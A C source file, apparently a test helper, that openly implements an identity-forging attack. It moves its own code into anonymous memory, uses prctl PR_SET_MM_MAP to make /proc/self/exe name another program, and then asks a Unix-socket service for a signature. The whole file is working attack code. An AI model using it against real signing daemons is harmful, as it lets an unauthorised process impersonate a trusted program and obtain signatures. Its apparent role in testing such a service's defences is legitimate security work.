/*
 * An attacker: has its exe link name another program, connects, and asks for a signature. The
 * kernel allows that to whoever has CAP_SYS_RESOURCE in his own user namespace, as soon as nothing
 * of the old executable is mapped any more; so it moves itself into anonymous memory first.
 *
 * usage: forge_exe PROGRAM SOCKET REQUEST-IN-HEXADECIMAL. Prints the type of the answer.
 */
#include <fcntl.h>
#include <linux/prctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define MAPPINGS_MAX 32

struct mapping {
	unsigned long start, end;
	int protection;
};

static _Noreturn void fail(const char *what) {
	perror(what);
	exit(3);
}

/* Those of the executable itself. */
static size_t find_mappings(struct mapping found[static MAPPINGS_MAX]) {
	char own[4096], line[8192];
	ssize_t len = readlink("/proc/self/exe", own, sizeof(own) - 1);
	FILE *maps = fopen("/proc/self/maps", "re");
	size_t n = 0;

	if (len < 0 || maps == NULL)
		fail("/proc/self");
	own[len] = '\0';
	while (n < MAPPINGS_MAX && fgets(line, sizeof(line), maps) != NULL) {
		char r, w, x;

		if (strstr(line, own) != NULL && sscanf(line, "%lx-%lx %c%c%c", &found[n].start,
		                                        &found[n].end, &r, &w, &x) == 5) {
			found[n].protection = (r == 'r' ? PROT_READ : 0) |
			                      (w == 'w' ? PROT_WRITE : 0) |
			                      (x == 'x' ? PROT_EXEC : 0);
			n++;
		}
	}
	fclose(maps);
	return n;
}

/* Each is replaced by its copy in one step, while we run in it. */
static void move_into_anonymous_memory(void) {
	struct mapping found[MAPPINGS_MAX];
	size_t n = find_mappings(found);

	for (size_t i = 0; i < n; i++) {
		size_t len = found[i].end - found[i].start;
		void *old = (void *)(uintptr_t)found[i].start; /* NOLINT */
		void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		                  -1, 0);

		if (copy == MAP_FAILED)
			fail("mmap");
		memcpy(copy, old, len);
		if (mprotect(copy, len, found[i].protection) < 0 ||
		    mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, old) == MAP_FAILED)
			fail("mremap");
	}
}

/* All else stays as /proc/self/stat says that it is. */
static void forge(const char *program) {
	const int first = 26, last = 51; /* proc(5) counts the fields so */
	unsigned long long fields[64] = {0};
	struct prctl_mm_map map = {0};
	char text[4096];
	int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
	ssize_t len = read(fd, text, sizeof(text) - 1);
	char *at;

	if (len <= 0)
		fail("/proc/self/stat");
	close(fd);
	text[len] = '\0';
	at = strrchr(text, ')');
	for (int field = 3; at != NULL && field <= last; field++) {
		at = strchr(at + 1, ' ');
		if (at != NULL && field >= first)
			fields[field] = strtoull(at + 1, NULL, 10);
	}
	map.start_code = fields[26];
	map.end_code = fields[27];
	map.start_stack = fields[28];
	map.start_data = fields[45];
	map.end_data = fields[46];
	map.start_brk = fields[47];
	map.brk = (uintptr_t)sbrk(0);
	map.arg_start = fields[48];
	map.arg_end = fields[49];
	map.env_start = fields[50];
	map.env_end = fields[51];
	fd = open(program, O_RDONLY | O_CLOEXEC);
	map.exe_fd = (uint32_t)fd;
	if (fd < 0 || prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) < 0)
		fail("PR_SET_MM_MAP");
	close(fd);
}

static void ask(const char *path, const char *request) {
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unsigned char answer[5] = {0};

	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (connect(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
		fail("connect");
	for (; request[0] != '\0' && request[1] != '\0'; request += 2) {
		unsigned byte;

		if (sscanf(request, "%2x", &byte) != 1 || write(fd, &(char){(char)byte}, 1) != 1)
			fail("write");
	}
	if (recv(fd, answer, sizeof(answer), MSG_WAITALL) < 0)
		fail("recv");
	printf("%d\n", answer[4]);
}

int main(int argc, char **argv) {
	char now[4096] = "";

	if (argc != 4)
		return 2;
	move_into_anonymous_memory();
	forge(argv[1]);
	if (readlink("/proc/self/exe", now, sizeof(now) - 1) < 0 || strcmp(now, argv[1]) != 0)
		fail(now);
	ask(argv[2], argv[3]);
	return 0;
}
